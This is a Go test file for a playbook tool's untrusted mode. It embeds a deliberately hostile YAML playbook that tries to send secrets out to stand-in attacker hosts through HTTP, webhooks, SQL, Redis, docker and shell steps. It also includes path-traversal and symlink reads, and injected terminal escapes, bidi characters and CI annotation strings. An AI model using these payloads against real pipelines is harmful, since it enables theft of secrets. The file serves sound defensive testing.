package main

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/alicebob/miniredis/v2"
)

// strangersPlaybook tries to carry each secret out on each way, and asks whoever it can reach for what stands there. What it says to
// somebody has the word "chosen" in it.
const strangersPlaybook = `description: "</details> <!-- marker --> @mention"
inputs:
  pin: {type: string, default: I9, pattern: "^I9", description: a secret that the playbook calls a text}
  quiet: {type: secret, required: false}
targets:
  cache: redis
  lite: sqlite
  own: {mysql: {address: DB, user: "chosen", password: "${{ secrets.ENV }}", database: d}}
  keep: {redis: {address: DB, password: "${{ secrets.FILE }}"}}
  engine: {docker: {host: "tcp://DB"}}
  host: {ssh: {address: DB, user: chosen}}
vars: {guess: "${{ inputs.pin + 'chosen' }}"}
steps:
  - {id: url, http: {get: "http://WEB/chosen", query: {q: "${{ secrets.ENV }}"}}}
  - {id: header, http: {get: "http://WEB/chosen", headers: {Authorization: "Basic ${{ secrets.HEADER }}"}}}
  - {id: body, http: {post: "http://WEB/chosen", json: {a: "${{ secrets.FILE }}", b: "${{ inputs.pin }}"}}}
  - {id: input, http: {get: "http://WEB/${{ vars.guess }}"}}
  - {id: message, notify: {webhook: {url: "http://WEB/chosen", json: {text: "${{ secrets.ENV }}"}}}}
  - {id: mysql, on: own, sql: {query: "SELECT 'chosen', :a", args: {a: "${{ secrets.ENV }}"}}}
  - {id: sqlite, on: lite, sql: {query: "SELECT v AS chosen FROM private WHERE v LIKE 'Q1%'"}, expect: len(rows) == 0}
  - {id: count, on: lite, sql: {exec: "DELETE FROM private WHERE v LIKE 'Q1-%'"}}
  - {id: wrong, on: lite, sql: {query: "SELECT abs(CASE WHEN v = '' THEN 1 ELSE -9223372036854775808 END) FROM private"}, on_error: continue}
  - {id: redis, on: cache, redis: {do: [GET, "chosen ${{ secrets.ENV }}"]}}
  - {id: held, on: cache, redis: {do: [GET, chosen]}, expect: value == null}
  - {id: swept, on: cache, redis: {sweep: {match: "chosen*", action: unlink}}}
  - {id: kept, on: keep, redis: {do: [GET, chosen]}}
  - {id: argv, exec: {argv: [sh, -c, 'touch chosen; echo "$A"'], env: {A: "${{ secrets.ENV }}", B: "${{ inputs.quiet }}"}, stdin: "${{ secrets.FILE }}"}}
  - {id: far, on: host, exec: {argv: [touch, chosen]}}
  - {id: image, docker: {run: {name: chosen, image: "WEB/chosen", env: {A: "${{ secrets.ENV }}"}}}}
  - {id: inside, docker: {exec: {container: chosen, argv: [echo]}}}
  - {id: compose, docker: {compose: up, file: PRIVATE}}
  - {id: file, file: {read: PRIVATE}}
  - {id: branch, when: "steps.file.text startsWith 'Q1'", exec: {argv: [echo, "first letter found"]}}
  - {id: letters, for_each: "${{ split(steps.file.text, '') }}", exec: {argv: [echo, "${{ item }}"]}}
  - {id: known, when: "steps.sqlite.rows[0].chosen startsWith 'Q'", exec: {argv: [echo, "first letter found"]}}
  - {id: pinned, when: "inputs.pin startsWith 'I9'", exec: {argv: [echo, "first letter found"]}}
  - {id: spelled, for_each: "${{ split(inputs.pin, '') }}", exec: {argv: [echo, "${{ item }}"]}}
  - {id: where, when: "targets.cache.address != ''", exec: {argv: [echo, "${{ targets.cache.address }}"]}}
  - {id: later, when: "now() > run.started - duration('1h')", exec: {argv: [echo, later]}}
  - id: probes
    done_if: [{http: {get: "http://WEB/chosen"}, expect: "status == 200"}]
    exec: {argv: [echo, "${{ item_of }}"]}
  - {id: until, wait: {until: [{http: {get: "http://WEB/chosen"}, expect: "status == 200"}], every: 1s}, timeout: 5s}
  - id: proof
    verify:
      - {on: cache, redis: {do: [GET, chosen]}, expect: value == null, message: "it says ${{ value }}"}
      - {file: {read: PRIVATE}, expect: "text == ''", message: "it says ${{ text }}"}
  - {id: asked, approve: {message: "yes? ${{ steps.file.text }} \e[2J\n::error::x"}}
  - {id: below, playbook: {run: below, inputs: {pin: "${{ inputs.pin }}"}}}
  - {id: "last", title: "` + "`x`" + ` \e[31m \u202e ##vso[task.x] </details>", exec: {argv: [echo, "${{ steps.below.back }}"]}}
outputs: {out: steps.file.text, pin: inputs.pin}
`

const strangersNested = `inputs: {pin: {type: string}}
steps:
  - {id: tell, http: {get: "http://WEB/chosen", headers: {A: "${{ secrets.ENV }}", B: "${{ inputs.pin }}"}}}
outputs: {back: inputs.pin}
`

// canary of the file and the table that belong to the machine alone.
const privateCanary = "Q1-private-Zx8w"

// watched is what a stranger's addresses have seen, and the server of the environment.
type watched struct {
	mu          sync.Mutex
	connections int
	requests    strings.Builder // to the stranger's own
	commands    strings.Builder // to the server of the environment
}

func (w *watched) note(to *strings.Builder, b []byte) {
	w.mu.Lock()
	defer w.mu.Unlock()
	to.Write(b)
}

// web is an address of the stranger's for requests.
func (w *watched) web(t *testing.T) *httptest.Server {
	s := httptest.NewUnstartedServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		w.note(&w.requests, fmt.Appendf(nil, "%s %v %s\n", r.URL, r.Header, b))
		rw.WriteHeader(http.StatusNoContent)
	}))
	s.Config.ConnState = func(_ net.Conn, state http.ConnState) {
		if state == http.StateNew {
			w.mu.Lock()
			defer w.mu.Unlock()
			w.connections++
		}
	}
	s.Start()
	t.Cleanup(s.Close)
	return s
}

// door is an address of the stranger's for everything else. Whoever comes is counted and sent away.
func (w *watched) door(t *testing.T) string {
	return w.listen(t, func(c net.Conn) {
		w.mu.Lock()
		w.connections++
		w.mu.Unlock()
		_ = c.Close()
	})
}

// before stands before a server of the environment, and writes down what is sent there.
func (w *watched) before(t *testing.T, server string) string {
	return w.listen(t, func(c net.Conn) {
		defer c.Close()
		up, err := net.Dial("tcp", server)
		if err != nil {
			return
		}
		go func() {
			defer up.Close()
			_, _ = io.Copy(up, io.TeeReader(c, writer(func(b []byte) { w.note(&w.commands, b) })))
		}()
		_, _ = io.Copy(c, up)
	})
}

type writer func([]byte)

func (f writer) Write(b []byte) (int, error) { f(b); return len(b), nil }

func (w *watched) listen(t *testing.T, each func(net.Conn)) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var all sync.WaitGroup
	all.Go(func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			all.Go(func() { each(c) })
		}
	})
	t.Cleanup(func() { _ = l.Close(); all.Wait() })
	return l.Addr().String()
}

// seen is what has come, when everything that was under way has arrived: a visit of the test's own is the last in each queue.
func (w *watched) seen(t *testing.T, web, door string) (connections int, requests, commands string) {
	t.Helper()
	c, err := net.Dial("tcp", door)
	if err != nil {
		t.Fatal(err)
	}
	_, _ = io.ReadAll(c) // until it is sent away
	_ = c.Close()
	if c, err = net.Dial("tcp", web); err != nil {
		t.Fatal(err)
	}
	if _, err := io.WriteString(c, "GET /own HTTP/1.0\r\n\r\n"); err != nil {
		t.Fatal(err)
	}
	_, _ = io.ReadAll(c)
	_ = c.Close()
	w.mu.Lock()
	defer w.mu.Unlock()
	connections, requests, commands = w.connections-2, w.requests.String(), w.commands.String()
	w.connections = 0
	w.requests.Reset()
	w.commands.Reset()
	return connections, requests, commands
}

func TestAStrangersPlaybookGetsNothing(t *testing.T) {
	g, w := newGround(t), &watched{}
	web, door := strings.TrimPrefix(w.web(t).URL, "http://"), w.door(t)
	server := miniredis.RunT(t)
	server.RequireAuth(canaries["db"])
	theirs := w.before(t, server.Addr())
	g.write("private", privateCanary)
	lite := filepath.Join(g.dir, "lite.db")
	db := openSQLite(t, lite)
	if _, err := db.ExecContext(t.Context(), "CREATE TABLE private (v TEXT); INSERT INTO private VALUES ('"+privateCanary+"')"); err != nil {
		t.Fatal(err)
	}
	fill := strings.NewReplacer("DB", door, "WEB", web, "PRIVATE", filepath.Join(g.dir, "private"), "item_of", "1")
	g.playbook("evil", fill.Replace(strings.ReplaceAll(strangersPlaybook, "${{ item_of }}", "x")))
	g.playbook("below", fill.Replace(strangersNested))
	g.playbook("good", "steps: [{id: one, exec: {argv: [echo, one]}}]\n")
	g.write("file.secret", canaries["file"])
	g.write("ours.yaml", fmt.Sprintf("targets:\n  cache: {redis: {address: %q, password: %q}}\n  lite: {sqlite: {file: %q}}\n", theirs, "${{ secrets.CACHE }}", lite)+
		"secrets: {ENV: {env: CANARY_ENV}, FILE: {file: file.secret}, CACHE: {env: CANARY_DB}, HEADER: {env: CANARY_HEADER}}\n")
	g.write("given.yaml", fmt.Sprintf("pin: %q\n", canaries["input"]))
	command := func(args ...string) said {
		c := exec.CommandContext(t.Context(), "handrail", args...)
		c.Dir = g.dir
		c.Env = append(g.environ(), "CANARY_ENV="+canaries["env"], "CANARY_DB="+canaries["db"], "CANARY_HEADER="+canaries["header"])
		var out, errs strings.Builder
		c.Stdout, c.Stderr = &out, &errs
		_ = c.Run() // how it ended is in its state
		return said{g, c.ProcessState.ExitCode(), out.String(), errs.String()}
	}

	// It is worth looking for: a plan that trusts the playbook is had by it.
	s := command("plan", "evil", "--env", "ours.yaml", "--inputs", "given.yaml")
	connections, requests, commands := w.seen(t, web, door)
	if connections == 0 || !strings.Contains(requests, canaries["header"]) || !strings.Contains(commands, "chosen") {
		t.Errorf("the playbook does no harm where it could: %d connections, requests\n%s\ncommands %q\n%s%s", connections, requests, commands, s.out, s.errors)
	}
	if !strings.Contains(s.out, privateCanary) {
		t.Errorf("the file of the machine is not shown where it could be:\n%s", s.out)
	}

	for _, args := range [][]string{
		{"plan", "evil", "-o", "text"}, {"plan", "evil", "-o", "json"}, {"plan", "evil", "-o", "markdown"}, {"plan", "evil", "--offline"},
		{"validate", "playbooks/evil.yaml"}, {"validate", "playbooks/evil.yaml", "-o", "json"},
		{"lint", "evil", "--fail-on", "never"}, {"lint", "evil", "--fail-on", "never", "-o", "json"}, {"lint", "evil", "--fail-on", "never", "-o", "sarif"},
		{"diff", "playbooks/good.yaml", "playbooks/evil.yaml"}, {"diff", "playbooks/good.yaml", "playbooks/evil.yaml", "-o", "json"},
		{"diff", "playbooks/good.yaml", "playbooks/evil.yaml", "-o", "markdown"},
	} {
		t.Run(strings.Join(args, " "), func(t *testing.T) {
			looks := args[0] == "plan" || args[0] == "diff"
			args = append(args, "--untrusted", "--env", "ours.yaml")
			if looks {
				args = append(args, "--inputs", "given.yaml")
			}
			s := command(args...)
			s.g = &ground{t: t}
			s.is(0)
			leaks(t, "what is said", s.out+s.errors)
			for _, never := range []string{privateCanary, "first letter found\n", theirs, "\x1b", "\u202e", "\n::", "##vso["} {
				if strings.Contains(s.out+s.errors, never) {
					t.Errorf("%q is said:\n%s%s", never, s.out, s.errors)
				}
			}
			connections, _, commands := w.seen(t, web, door)
			if connections != 0 {
				t.Errorf("%d connections to the stranger's addresses", connections)
			}
			if strings.Contains(commands, "chosen") {
				t.Errorf("the server of the environment was sent what the playbook says: %q", commands)
			}
			if args[0] != "plan" {
				return
			}
			if reached := strings.Contains(commands, canaries["db"]); reached == strings.Contains(strings.Join(args, " "), "--offline") {
				t.Errorf("the server of the environment was reached: %v", reached)
			}
			if s.isPlan(t, args); strings.Contains(s.out, "would stop here") || strings.Contains(s.out, "left out") {
				t.Errorf("a step was judged by what the playbook must not know:\n%s", s.out)
			}
		})
	}
	for _, left := range []string{"chosen", "state"} {
		if _, err := os.Stat(filepath.Join(g.dir, left)); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("%s was made: %v", left, err)
		}
	}
}

// isPlan looks whether a plan says of each target what is known, and of each step that something is not.
func (s said) isPlan(t *testing.T, args []string) {
	t.Helper()
	if args[3] != "json" {
		return
	}
	var p struct {
		Untrusted bool
		Contacts  []struct {
			Target  string
			Reached bool
		}
		Steps []struct {
			Step  string
			Maybe bool
		}
	}
	if err := json.Unmarshal([]byte(s.out), &p); err != nil {
		t.Fatal(err)
	}
	for _, c := range p.Contacts {
		if want := c.Target == "cache" || c.Target == "lite"; c.Reached != want {
			t.Errorf("target %s: reached %v", c.Target, c.Reached)
		}
	}
	maybe := map[string]bool{"branch": true, "letters[*]": true, "known": true, "pinned": true, "spelled[*]": true, "where": true, "later": true}
	for _, st := range p.Steps {
		if st.Maybe != maybe[st.Step] {
			t.Errorf("step %s may be run: %v", st.Step, st.Maybe)
		}
		delete(maybe, st.Step)
	}
	if !p.Untrusted || len(p.Contacts) != 6 || len(maybe) > 0 {
		t.Errorf("it has %d contacts, and not the steps %v:\n%s", len(p.Contacts), maybe, s.out)
	}
}

// A file is shown with its line where it is no playbook. So none is read but a stranger's own.
func TestAStrangersPlaybookIsReadFromWhereItStands(t *testing.T) {
	const canary = "Q2: [private"
	g := newGround(t)
	g.write("secret.yaml", canary)
	g.write("ours.yaml", "secrets: {X: {file: playbooks/kept.yaml}}\ntargets: {}\n")
	g.write("playbooks/kept.yaml", canary)
	g.write("playbooks/good.yaml", "playbook: good\nsteps: [{id: a, exec: {argv: [echo]}}]\n")
	for _, dir := range []string{".git", "playbooks/sub", "playbooks/.hidden"} {
		if err := os.Mkdir(filepath.Join(g.dir, dir), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	g.write(".git/config.yaml", canary)
	g.write("playbooks/.hidden/x.yaml", canary)
	for link, to := range map[string]string{"playbooks/link.yaml": "../secret.yaml", "playbooks/folder": "..", "playbooks/gone.yaml": "/nowhere/at/all"} {
		if err := os.Symlink(to, filepath.Join(g.dir, link)); err != nil {
			t.Fatal(err)
		}
	}
	for run, condition := range map[string]bool{
		filepath.Join(g.dir, "secret.yaml"): true, "../secret.yaml": true, "../.git/config.yaml": true, ".hidden/x.yaml": true, "./folder/secret.yaml": true,
		"link": true, "./link.yaml": true, "kept": true, "./kept.yaml": true, "gone": false, "../nowhere.yaml": false,
	} {
		g.playbook("evil", fmt.Sprintf("steps: [{id: a, playbook: {run: %q}}]\n", run))
		if s := g.handrail("validate", "evil"); condition && !strings.Contains(s.out+s.errors, canary) {
			t.Errorf("%s: nothing would be gained by it: %s%s", run, s.out, s.errors)
		}
		for _, args := range [][]string{{"validate", "evil"}, {"lint", "evil"}, {"plan", "evil"}} {
			s := g.handrail(append(args, "--untrusted", "--env", "ours.yaml")...).never("private").never("no such file").never("is no playbook gone")
			if s.code == 0 {
				t.Errorf("%v of %s is good", args, run)
			}
		}
	}
	g.playbook("evil", "steps: [{id: a, playbook: {run: ./sub/../good.yaml}}, {id: b, playbook: {run: good}}, {id: c, playbook: {run: network-create}}]\n")
	g.handrail("validate", "evil", "--untrusted").is(2).never("good.yaml: --untrusted") // the shipped one wants inputs
	g.playbook("evil", "steps: [{id: a, playbook: {run: ./sub/../good.yaml}}, {id: b, playbook: {run: good}}]\n")
	g.handrail("validate", "evil", "--untrusted").is(0)
	g.handrail("plan", "playbooks/link.yaml", "--untrusted").is(2, "follows no symbolic link").never("private")
	g.handrail("plan", "playbooks/gone.yaml", "--untrusted").is(2, "follows no symbolic link")
	g.handrail("validate", "playbooks/folder", "--untrusted").is(2, "follows no symbolic link").never("secret.yaml")
	g.handrail("validate", "playbooks", "--untrusted", "--env", "ours.yaml").is(2).never("private")
}

// In git the files are those of the revision, and what lies beside them in the work tree is as far away.
func TestAStrangersRevisionIsReadFromItsRepository(t *testing.T) {
	g := newGround(t)
	g.playbook("evil", "steps: [{id: a, exec: {argv: [echo]}}]\n")
	g.git("init", "-q")
	g.git("add", ".")
	g.git("commit", "-q", "-m", "good")
	g.write("outside.yaml", "[core] of something private")
	g.playbook("inner", "steps: [{id: b, exec: {argv: [echo, inner]}}]\n")
	if err := os.Symlink("../outside.yaml", filepath.Join(g.dir, "playbooks", "link.yaml")); err != nil {
		t.Fatal(err)
	}
	diff := func(more ...string) said {
		return g.handrail(append([]string{"diff", "--base", "HEAD", "evil"}, more...)...)
	}
	for run, line := range map[string]string{"../.git/config": "repositoryformatversion", "link": "[core]", filepath.Join(g.dir, "outside.yaml"): "[core]"} {
		g.playbook("evil", fmt.Sprintf("steps: [{id: a, playbook: {run: %q}}]\n", run))
		if s := diff(); !strings.Contains(s.out+s.errors, line) {
			t.Errorf("%s: nothing would be gained by it: %s%s", run, s.out, s.errors)
		}
		if s := diff("--untrusted").never(line); !strings.Contains(s.out, "cannot be read") {
			t.Errorf("%s: it was read:\n%s%s", run, s.out, s.errors)
		}
	}
	g.playbook("evil", "steps: [{id: a, playbook: {run: ./inner.yaml}}]\n")
	if s := diff("--untrusted").is(0); !strings.Contains(s.out, "inner") {
		t.Errorf("what is the stranger's own was not read:\n%s", s.out)
	}
}

// The environment is what the command line says, in a file that the pull request has no part in; and only what looks is untrusted.
func TestUntrustedIsForLooking(t *testing.T) {
	g := newGround(t)
	g.playbook("p", "inputs: {n: {type: integer}}\nsteps: [{id: a, exec: {argv: [echo, \"${{ inputs.n }}\"]}}]\n")
	g.write("environments/default.yaml", "targets: {}\nsecrets: {X: {command: [touch, made], in_plan: true}}\n")
	g.handrail("plan", "p", "--untrusted").is(0)
	g.handrail("plan", "p", "--untrusted", "--env", "default").is(2, "name a file that is yours")
	g.handrail("plan", "p", "--untrusted", "--env", "environments/default.yaml", "-i", "n=x").is(0)
	g.handrail("plan", "p", "--untrusted", "-i", "m=1").is(2, "has no input m")
	g.handrail("plan", "p", "--untrusted", "--fail-on", "change").is(1, "step a: changes")
	g.handrail("plan", "p", "--untrusted", "--out", "saved").is(2, "--out with --untrusted")
	g.handrail("run", "p", "--untrusted", "--yes").is(2, "not for running it")
	g.handrail("run", "p", "--dry-run", "--untrusted").is(2, "not for running it")
	g.write("broken.yaml", "targets: {db: {mysql: {adress: Q3}}}\n")
	g.handrail("plan", "p", "--untrusted", "--env", "broken.yaml").is(2, "handrail validate broken.yaml").never("Q3")
	if err := os.Mkdir(filepath.Join(g.dir, ".git"), 0o700); err != nil {
		t.Fatal(err)
	}
	for _, look := range []string{"plan", "validate", "lint"} {
		if s := g.handrail(look, "p", "--untrusted", "--env", "environments/default.yaml"); !strings.Contains(s.out+s.errors, "of the same checkout") || s.code == 0 {
			t.Errorf("%s takes the environment of the pull request: %d\n%s%s", look, s.code, s.out, s.errors)
		}
	}
	if _, err := os.Stat(filepath.Join(g.dir, "made")); err == nil {
		t.Error("a command of the environment was run for a secret that no target needs")
	}
}

func TestALookIsBounded(t *testing.T) {
	blocks := func(ctx context.Context) error { <-ctx.Done(); return context.Cause(ctx) }
	if err := bounded(t.Context(), limits{time.Hour, 1}, blocks); err == nil || !strings.Contains(err.Error(), "of memory") {
		t.Errorf("too much memory: %v", err)
	}
	if err := bounded(t.Context(), limits{time.Nanosecond, 1 << 50}, blocks); err == nil || !strings.Contains(err.Error(), "this took more than 1ns") {
		t.Errorf("too much time: %v", err)
	}
	ctx, cancel := context.WithCancelCause(t.Context())
	cancel(errTold)
	if err := bounded(ctx, untrustedLimits, blocks); !errors.Is(err, errTold) {
		t.Errorf("interrupted: %v", err)
	}
	if err := bounded(t.Context(), untrustedLimits, func(context.Context) error { return errTold }); !errors.Is(err, errTold) {
		t.Errorf("done: %v", err)
	}
}
